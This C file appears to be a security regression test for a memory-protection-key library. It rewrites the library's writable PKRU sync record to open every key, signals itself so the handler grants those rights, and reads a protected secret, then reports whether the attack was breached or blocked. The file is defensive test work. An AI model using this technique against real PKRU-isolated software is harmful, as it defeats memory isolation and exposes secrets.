/* libprotect's record of a key update rewritten: when a library is loaded
 * later, every thread takes the new key's rights from a signal of
 * libprotect's, whose handler edits the PKRU saved in its frame.  The
 * attacker writes "every key open" where that handler looks, then sends
 * itself the signal, and reads the secret with the rights it came back
 * with.  After the fix there is no record to rewrite: the signal alone
 * must leave the rights as they were (the read then faults).  pkru_sync */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <stdint.h>
#include <sys/syscall.h>

int main(void)
{
    vault_open();
    struct vault_cell *cell = vault_address(VAULT_DATA);
    uint32_t app, edx;
    __asm__ volatile("rdpkru" : "=a"(app), "=d"(edx) : "c"(0));
    /* Wherever libprotect keeps the update (writable memory, as it was). */
    uint32_t *mask = libprotect_symbol("sync_mask"), *bits = libprotect_symbol("sync_bits");
    if (mask && bits) {
        *mask = 0xfffffffcu; /* every key but 0 */
        *bits = 0;           /* ... open */
    }
    syscall(SYS_tgkill, getpid(), gettid(), SIGRTMAX);
    /* With the rights the handler's frame came back with: */
    uint8_t copy[VAULT_SECRET_LEN];
    for (int i = 0; i < VAULT_SECRET_LEN; i++)
        copy[i] = ((volatile uint8_t *)cell->secret)[i];
    /* The application's rights back the same way, so that the library's
     * own gate can judge the copy. */
    if (mask && bits) {
        *bits = app & 0xfffffffcu;
        syscall(SYS_tgkill, getpid(), gettid(), SIGRTMAX);
    }
    if (vault_matches(VAULT_DATA, copy))
        breached("read the library's secret with the rights libprotect's own signal came back with");
    blocked("what was read is not the secret");
}
